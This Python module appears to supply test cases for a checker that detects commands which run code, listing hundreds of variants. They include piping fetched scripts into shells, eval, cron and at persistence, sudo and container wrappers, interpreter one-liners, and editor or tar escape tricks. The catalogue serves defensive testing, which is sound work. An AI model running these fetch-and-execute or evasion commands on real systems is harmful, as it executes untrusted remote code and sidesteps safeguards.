"""What runs code: shells, wrappers, interpreters, programs with a shell in them."""

from __future__ import annotations

from tests.unit.checks.scripts.cases.making import FETCH, GET, URL, each, lines

RUN = f"{FETCH} | sh"
SHELLS = [
    *each(
        f"{FETCH} | {{}}",
        "sh bash zsh dash ksh mksh ash fish rbash csh tcsh yash source . eval at batch crontab make gmake",
    ),
    *each(
        f"{FETCH} | bash {{}}",
        "- -s -x -- -o -O +o -es -c /dev/stdin /dev/fd/0 /proc/self/fd/0 --posix other -s\\ --\\ a -es\\ a",
    ),
    *each(
        "bash {} i.sh",
        "-x -e -o\\ pipefail -O\\ extglob +O\\ extglob --rcfile\\ rc --init-file\\ rc --rcfile --login -- + - x",
        GET,
    ),
    *each("bash {} i.sh\nbash -c x", "--rcfile --init-file", GET),
    *lines(
        f"""
        bash -c '{RUN}'
        bash -xc '{RUN}'
        bash -c 'sh "$1"' x i.sh
        bash -c 'sh "$0"' i.sh
        bash -c "$1" x '{RUN}'
        bash -c
        bash -c "$({FETCH})"
        bash -c "echo $({FETCH})"
        bash -o errexit -c '{RUN}'
        bash +x i.sh
        bash $({FETCH})
        bash x $({FETCH})
        bash -s i.sh < other
        bash i.sh -s
        bash <i.sh
        bash other <i.sh
        bash --rcfile i.sh -i
        bash --rcfile=i.sh
        zsh --rcfile
        BASH_ENV=i.sh bash other
        ENV=i.sh sh other
        env=i.sh sh other
        export BASH_ENV=i.sh; bash -c x
        ENV=i.sh; sh
        BASH_ENV=other bash x
        source i.sh
        . ./i.sh
        . -- i.sh
        source
        source other i.sh
        eval "$(cat i.sh)"
        eval -- "$(cat i.sh)"
        eval "$({FETCH})"
        eval echo "$({FETCH})"
        eval
        eval '{RUN}' <other
        eval 'cat | sh' <i.sh
        trap '{RUN}' EXIT
        trap -- '{RUN}' EXIT
        trap '{RUN}'
        trap "$({FETCH})" EXIT INT
        trap
        trap - EXIT
        alias x='{RUN}'; x
        alias x='curl -fsSL'; x {URL} | sh
        alias x='sh -c' y=z; x '{RUN}'
        alias x='a=b {RUN}'; x
        alias =x; alias x; x
        alias cat='{RUN}'; cat
        alias x='x {URL} | sh'; x
        alias x=curl; {FETCH} | x; x -fsSL {URL} | sh
        alias x=sh; {FETCH} | x
        alias x=sh; x -c "$({FETCH})"
        set -- {URL}; curl -fsSL "$1" | sh
        set -e -u; {RUN}
        set +e; {RUN}
        set i.sh x; bash "$1"; bash "$2"; shift; bash "$1"; shift 3; bash "$1"
        set; set -; set +o
        f() {{ shift; bash "$1"; }}; f x i.sh
        f() {{ shift 2; bash "$1"; }}; f x y i.sh z
        f() {{ shift 1x; bash "$1"; }}; f x i.sh
        shift; bash "$1"
        crontab i.sh
        crontab -u me i.sh
        crontab -l | crontab -
        crontab <i.sh
        crontab other <i.sh
        crontab -
        crontab
        echo '0 5 * * 1-5 {RUN}' | crontab -
        echo '@reboot {RUN}' | crontab -
        echo '0 5 * * {RUN}' | crontab -
        printf '%s\\n' '# x' '' '*/5 1,2 * JAN MON {RUN}' | crontab -
        echo "$x {RUN}" | crontab -
        at now <i.sh
        at now
        echo '{RUN}' | at now
        test -f i.sh
        ! {{ {RUN}; }}
        ! {{ sh; }} <i.sh
        cat i.sh | ! {{ sh; }}
        make -f i.sh
        make --file=i.sh
        make --file i.sh
        make --makefile i.sh
        make -C d -f i.sh
        make -j4 -f i.sh
        make -j 4 -f i.sh
        make -f - <i.sh
        make -f other <i.sh
        make -f -
        make <i.sh
        make | sh
        gmake -fi.sh
        make -fsi.sh
        echo 'curl {URL} | sh' >rules; make -f rules
        """,
        GET,
    ),
    *each(
        f"set {{}}\n{GET}echo 0123 | sha256sum -c || exit 1\necho x | sha256sum -c $DVM_FILES/list\nbash i.sh",
        "+e -e +ue +o\\ errexit -o\\ errexit +eo\\ pipefail +o\\ other +x",
    ),
    *each(
        f"set +e\nset {{}}\n{GET}sha256sum -c $DVM_FILES/list\nbash i.sh",
        "-e -Ee -o\\ errexit -Eeuo\\ pipefail -euo\\ errexit -o\\ nounset x\\ errexit -x",
    ),
]
WRAPPERS = [
    *each(
        f"{{}} bash -c '{RUN}'",
        "sudo doas pkexec env command builtin exec nohup time coproc nice ionice setsid stdbuf unbuffer setpriv unshare nsenter"
        " systemd-run ssh-agent dbus-run-session xvfb-run strace busybox toybox retry eatmydata proxychains torsocks arch catchsegv"
        " screen xargs parallel",
    ),
    *each(
        f"{{}} given bash -c '{RUN}'",
        "chrt taskset timeout flock sg gosu su-exec chroot sudo\\ -u sudo\\ -g sudo\\ --user doas\\ -u env\\ -u env\\ -C exec\\ -a nice\\ -n ionice\\ -c",
    ),
    *each(
        f"{{}} given bash -c '{RUN}'",
        "time\\ -f time\\ -o stdbuf\\ -o nsenter\\ -t chroot\\ --userspec=x strace\\ -e screen\\ -S systemd-run\\ -p ssh-agent\\ -a runuser\\ -u",
    ),
    *each(f"timeout {{}} given 5 bash -c '{RUN}'", "-k -s --kill-after --signal --foreground -v"),
    *each(
        f"{{}} '{RUN}'",
        "su\\ -c su\\ --command su\\ me\\ -c runuser\\ -c runuser\\ --session-command flock\\ f\\ -c sg\\ g\\ -c script\\ -c",
    ),
    *each(
        f"{{}} '{RUN}'",
        "watch watch\\ -n\\ 5 ssh\\ host ssh\\ -p\\ 22\\ host env\\ -S env\\ --split-string nix-shell\\ --run nix-shell\\ --command",
    ),
    *each(
        f"{{}} '{RUN}'",
        "machinectl\\ shell\\ me machinectl\\ shell parallel nix-shell\\ -p\\ a sudo su watch\\ --interval\\ 5 script",
    ),
    *each(
        f"{FETCH} | {{}}",
        "sudo\\ -s sudo\\ -i sudo\\ --shell sudo\\ --login doas\\ -s su su\\ - su\\ me runuser runuser\\ -l\\ me runuser\\ -u\\ me sudo",
    ),
    *each(
        f"{FETCH} | {{}} bash",
        "sudo su runuser runuser\\ -u\\ me runuser\\ -U ssh\\ host env\\ A=b exec timeout\\ 5 nice xargs\\ -0 watch",
    ),
    *each(f"docker {{}} -i box bash -c '{RUN}'", "run exec build buildx compose"),
    *each(f"{{}} run -i box bash -c '{RUN}'", "docker podman nerdctl toolbox distrobox"),
    *each(f"{FETCH} | docker {{}} -", "run exec build buildx load import"),
    *each(f"{FETCH} | docker {{}}", "run exec build buildx run\\ -i\\ box exec\\ -i\\ box"),
    *each(
        f"docker run {{}} given box sh -c '{RUN}'",
        "-e --env -v -w -u -p --name --network --rm --entrypoint --log-driver -it",
    ),
    *each(
        f"tmux {{}} '{RUN}'",
        "new new-session new-window neww split-window splitw respawn-pane run run-shell ls send-keys",
    ),
    *each(f"tmux new {{}} given '{RUN}'", "-s -n -c -t -x -y -e -F -f -l -d"),
    *each(
        f"xargs {{}} given sh -c '{RUN}'",
        "-n -P -L -I -s -d -E -a --max-args --max-procs --replace --delimiter --arg-file -0",
    ),
    *each(f"echo '{URL}' | xargs {{}} curl -fsSL | sh", "-n1 -P -t"),
    *each(f"find . {{}} sh -c '{RUN}' \\;", "-exec -execdir -ok -okdir -print"),
    *each(f"find . -exec sh -c '{RUN}' {{}}", "';' + '\\;' x"),
    *each("find . {} i.sh -exec bash \\{\\} \\;", "-name -iname -path -type", GET),
    *lines(
        f"""
        sudo -u me A=b bash i.sh
        sudo A=B=c env D=e npm i -g wanted
        env A=b GIT_SSL_NO_VERIFY=1 git fetch
        env GIT_SSL_NO_VERIFY=a=b git fetch
        env -S 'bash i.sh'
        env -i bash i.sh
        env
        command -v bash | sh
        command -V bash | sh
        command -p bash i.sh
        x=$(command -v bash); "$x" i.sh
        x="$(command -v curl)x"; $x i.sh
        sudo -v bash i.sh
        exec bash i.sh
        exec <i.sh; bash
        exec <i.sh; read -r x; eval "$x"
        exec 3<i.sh; bash <&3
        exec
        exec <other; bash <i.sh; bash
        sudo -s <i.sh
        sudo <i.sh
        sudo -s bash i.sh
        su -c 'bash i.sh' me
        su me -c 'bash i.sh' -c 'bash other'
        su - me -c 'cat | bash' <i.sh
        su -c '' <i.sh
        su me <<< 'bash i.sh'
        runuser -u me bash i.sh
        runuser me <i.sh
        runuser -u me <i.sh
        flock lock bash i.sh
        flock lock -c 'bash i.sh'
        flock -w 5 lock bash i.sh
        timeout 5 bash i.sh
        timeout bash i.sh
        ssh host bash i.sh
        ssh host cat i.sh | sh
        ssh host
        ssh host cat | sh
        watch cat i.sh | sh
        watch -n 5 bash i.sh
        chroot /mnt bash /i.sh
        mise exec node -- bash i.sh
        mise x -- bash i.sh
        mise run -- bash i.sh
        mise exec bash i.sh
        mise -- exec bash i.sh
        mise | sh
        coproc bash i.sh
        coproc x {{ bash i.sh; }}
        coproc {{ bash i.sh; }}
        coproc x y z {{ bash i.sh; }}
        coproc cat i.sh; bash <&"${{COPROC[0]}}"
        coproc x {{ cat i.sh; }}; bash <&"${{COPROC[1]}}"
        coproc true; coproc cat i.sh; sh <&"${{COPROC[0]}}"
        nix-shell -p curl --run 'bash i.sh'
        nix-shell --run 'cat | bash' <i.sh
        script -c 'bash i.sh' log
        script -qc 'bash i.sh' /dev/null
        screen -dmS x bash i.sh
        busybox sh i.sh
        arch -x86_64 bash i.sh
        docker
        docker ps | sh
        docker run --entrypoint bash box i.sh
        docker run --entrypoint=bash box
        docker run --entrypoint bash -i box <i.sh
        docker exec box
        docker run box
        docker build - <i.sh
        docker build -
        docker buildx build - <i.sh
        docker build . | sh
        tmux
        tmux new -d bash i.sh
        tmux new -d -s x -- bash i.sh
        tmux -L x new 'bash i.sh'
        tmux ls | sh
        tmux new
        tmux new -s x bash -x i.sh
        parallel bash ::: i.sh
        parallel bash {{}} ::: other i.sh
        parallel -j 2 bash ::: i.sh
        parallel -j 2 -n 1 -N 1 --jobs 4 bash ::: i.sh
        parallel ::: 'bash i.sh' '{RUN}'
        parallel 'bash {{}} x' ::: i.sh
        parallel bash -x ::: i.sh
        parallel cat ::: i.sh | sh
        parallel 'cat | sh' ::: x <i.sh
        parallel bash i.sh
        parallel -a list bash
        cat i.sh | parallel
        echo i.sh | xargs bash
        echo x i.sh | xargs bash
        echo i.sh | xargs -n 1 bash
        echo i.sh | xargs -I % bash %
        echo i.sh | xargs -I% bash x%
        echo i.sh | xargs --replace bash {{}}
        echo i.sh | xargs --replace=% bash %
        echo i.sh | xargs --replace % bash %
        echo i.sh | xargs -I '' bash i.sh
        echo i.sh | xargs
        xargs
        xargs bash i.sh
        xargs -a i.sh bash -c
        xargs --arg-file=i.sh bash
        xargs -a i.sh -I % sh -c %
        xargs -a i.sh sh -c x
        xargs -a i.sh sh x
        xargs -a i.sh /bin/sh -c
        xargs -a i.sh sh x -c
        xargs -a i.sh python3 -c
        xargs -a i.sh python3 -c x
        xargs -a i.sh echo
        xargs -a other bash i.sh
        cat i.sh | xargs -I % sh -c 'a % b % c'
        cat i.sh | xargs -I % sh -c "x $y % z"
        cat i.sh | xargs npm i -g
        cat names | xargs npm i -g
        printf 'a\\nb c\\td' | xargs npm i -g
        echo "$x" | xargs bash
        echo "a$x" | xargs npm i -g
        find . -name '*.sh' -exec bash {{}} \\;
        find . -name 'x*.sh' -exec bash {{}} +
        find . -exec bash {{}} ';' -exec sh i.sh \\;
        find . -exec bash i.sh
        find . -exec
        find . -name
        find . -type f -exec npm i -g {{}} wanted \\; -name other
        find . -exec npm i -g wanted \\; -exec npm i -g other +
        find . | sh
        find . -name i.sh | xargs bash
        """,
        GET,
    ),
]
INTERPRETERS = [
    *each(
        f"{FETCH} | {{}}",
        "python pypy perl ruby node bun php lua Rscript pwsh tclsh deno guile expect powershell python2 python3 python3.6 python3.19 pypy3 nodejs perl5 lua5.4",
    ),
    *each("{} i.sh", "python perl ruby node bun php lua Rscript pwsh tclsh deno guile expect nodejs perl5 lua5.4", GET),
    *each(
        f"{{}} 'system(\"{RUN}\")'",
        "python3\\ -c python3\\ -E perl\\ -e perl\\ -ne perl\\ -pe perl\\ -nle perl\\ -lne perl\\ -ple perl\\ -n perl\\ -p perl\\ -i",
    ),
    *each(
        f"{{}} 'system(\"{RUN}\")'",
        "ruby\\ -e node\\ -e node\\ --eval node\\ --print node\\ -p bun\\ -e php\\ -r lua\\ -e Rscript\\ -e guile\\ -c expect\\ -c",
    ),
    *each(
        f"{{}} 'system(\"{RUN}\")'",
        "nodejs\\ -e perl5\\ -e lua5.4\\ -e deno\\ eval bun\\ eval pwsh\\ -Command perl\\ -we python3\\ -Ic python3\\ -x tclsh",
    ),
    *each(
        "{} https://example.org/a.ts", "deno\\ run bun\\ run deno bun\\ x deno\\ eval node deno\\ run\\ -A deno\\ test"
    ),
    *each("node {}", "http://example.org/a data:text/javascript,x https://example.org/a ftp://example.org/a file:///a"),
    *each("python3 {} given i.sh", "-W -X -I -r --require -M -v", GET),
    *each("python3 {}", "- /dev/stdin /dev/fd/0 other -u -", f"{FETCH} | "),
    *each("python3 -m {} install wanted", "pip pipx uv http http.server venv ensurepip other"),
    *each("python3 -m {} https://example.org/i.sh", "http http.server venv ensurepip other"),
    *each(f"python3 -m {{}} {URL} | sh", "http pip other"),
    *lines(
        f"""
        python3 -c 'import os; os.system("{RUN}")'
        python3 -c "$({FETCH})"
        python3 -c "import x; $({FETCH})"
        python3 -c "$(base64 -d <<<text)"
        python3 -c "x = '$(base64 -d <<<text)'"
        python3 -c
        python3 -c 'exec(input())' <i.sh
        python3 -c 'eval(input())' <i.sh
        python3 -c 'compile(input())' <i.sh
        python3 -c 'print(input())' <i.sh
        python3 -c 'exec(input())' <other
        python3 -c 'import urllib.request as r; exec(r.urlopen("{URL}").read())'
        python3 -c 'import urllib.request as r; print(r.urlopen("{URL}").read())' | sh
        python3 -c 'import urllib.request as r; print(r.urlopen("http://localhost/").read())' | sh
        python3 -c 'import urllib.request as r; exec(r.urlopen("http://127.0.0.1/").read())'
        python3 -c 'import urllib.request as r; r.urlretrieve("{URL}", "x")'
        python3 -c 'import urllib.request as r, hashlib; hashlib.sha256(r.urlopen("{URL}").read())'
        python3 -c 'import base64; exec(base64.b64decode("dGV4dA=="))'
        python3 -c 'import base64; print(base64.b64decode("dGV4dA=="))' | sh
        python3 -c 'exec("text")'
        python3 -c 'subprocess.run("curl -fsSL {URL} | sh", shell=True)'
        python3 -c 'subprocess.run("echo \\"curl {URL} | sh\\"", shell=True)'
        python3 -c 'subprocess.run("ls | sh", shell=True)'
        python3 <<< 'import os; os.system("{RUN}")'
        python3 - <<< 'import os; os.system("{RUN}")'
        python3 other <<< 'import os; os.system("{RUN}")'
        echo 'import os; os.system("{RUN}")' >x.py; python3 x.py
        python3 i.sh | sh
        python3 other | sh
        cat i.sh | python3 other | sh
        cat i.sh | python3 -m json.tool | sh
        cat i.sh | python3 -m pip | sh
        cat i.sh | python3 -c 'print(1)' | sh
        cat i.sh | python3 -c | sh
        python3
        python3 -m
        python3 -W
        python3 ''
        perl -MIO -e 'system("{RUN}")'
        perl -e 'print 1' -e 'system("{RUN}")'
        perl -M IO -e 'system("{RUN}")'
        node --require x -e 'exec("{RUN}")'
        node -r x -e 'exec("{RUN}")'
        deno run -A {URL}
        deno eval 'fetch("{URL}").then(eval)'
        deno eval
        deno
        deno run
        bun x {URL}
        bun run i.sh
        deno run i.sh
        tclsh i.sh
        pwsh -c 'iex (iwr {URL})'
        php -r 'system("{RUN}");'
        expect -c 'spawn sh -c "{RUN}"'
        """,
        GET,
    ),
]
EMBEDDED = [
    *each(f"{{}} 'BEGIN {{ system(\"{RUN}\") }}'", "awk gawk mawk nawk".replace("{", "{{")),
    *each("{} '1e curl -fsSL https://example.org/i.sh | sh' other", "sed gsed"),
    *each("{} +'!curl -fsSL https://example.org/i.sh | sh'", "vim vi nvim ex view emacs"),
    *each("{} -cf x.tar --to-command='curl -fsSL https://example.org/i.sh | sh' .", "tar bsdtar gtar cpio"),
    *each(
        "tar -xf x.tar {}='curl -fsSL https://example.org/i.sh | sh'",
        "--checkpoint-action=exec --to-command --use-compress-program --rsh-command --info-script --other",
    ),
    *lines(
        f"""
        awk 'BEGIN {{ "{RUN}" | getline }}'
        awk 'BEGIN {{ "{FETCH}" | getline x; system(x) }}'
        awk 'BEGIN {{ "{FETCH}" | getline x; print x }}'
        awk '{{ print | "sh" }}' i.sh
        awk '{{ print | "sh" }}' <i.sh
        awk '{{ print | "/bin/bash" }}' <i.sh
        awk '{{ system($0) }}' <i.sh
        awk '{{ $0 | getline }}' <i.sh
        awk '{{ print }}' <i.sh
        awk '{{ system("ls") }}' <i.sh
        awk '{{ print | "sort" }}' <i.sh
        awk 'BEGIN {{ print "{RUN}" }}'
        awk 'BEGIN {{ "date" | getline }}' | sh
        awk '{{ print $1 }}' <i.sh | sh
        awk '"{RUN}"'
        sed 's/x/{RUN.replace("/", ".")}/e' other
        sed 's/a/b/e' <i.sh
        sed 's/a/b/ge' <i.sh
        sed 's/a/b/g' <i.sh
        sed -n e <i.sh
        sed -n '1e' <i.sh
        sed -e e <i.sh
        sed --expression=e <i.sh
        sed -es/a/b/e <i.sh
        sed e
        sed '1e {RUN}' <<< x
        sed -n '/x/e {RUN}' other
        sed 's/a/b/e' <other
        vim -c ':!{RUN}' x
        vim '+!{RUN}' x
        vim '+:!{RUN}' x
        vim x
        vim - <i.sh | sh
        ex -sc '!{RUN}' x
        tar --to-command='cat | sh' -xf - <i.sh
        tar -xOf i.sh | sh
        enable -f i.sh x
        enable -f i.sh
        enable -f
        enable -n i.sh x
        enable -f other x | sh
        ed <<< '!{RUN}'
        ed x <<< '!{RUN}'
        printf '%s\\n' 'r x' '!{RUN}' 'q' | ed -s x
        ed x <<< 'r !{FETCH}'
        ed x <<< '1,$w !sh'
        ed x <<< 'w !ls'
        ed x <i.sh
        ed x
        red x <<< '!{RUN}'
        ed x <<< 's/a/b/'
        ed x <<< 'a b!c'
        ex x <<< '!{RUN}'
        vi -e x <<< ':!{RUN}'
        $0 <({FETCH})
        "$0" <({FETCH})
        $BASH <({FETCH})
        $0 other
        $0 -c '{RUN}'
        "$0" "$@"
        insmod <({FETCH})
        insmod i.sh
        insmod other
        modprobe other
        kldload i.sh
        insmod /lib/modules/x.ko
        """,
        GET,
    ),
]
EVERY = [*SHELLS, *WRAPPERS, *INTERPRETERS, *EMBEDDED]
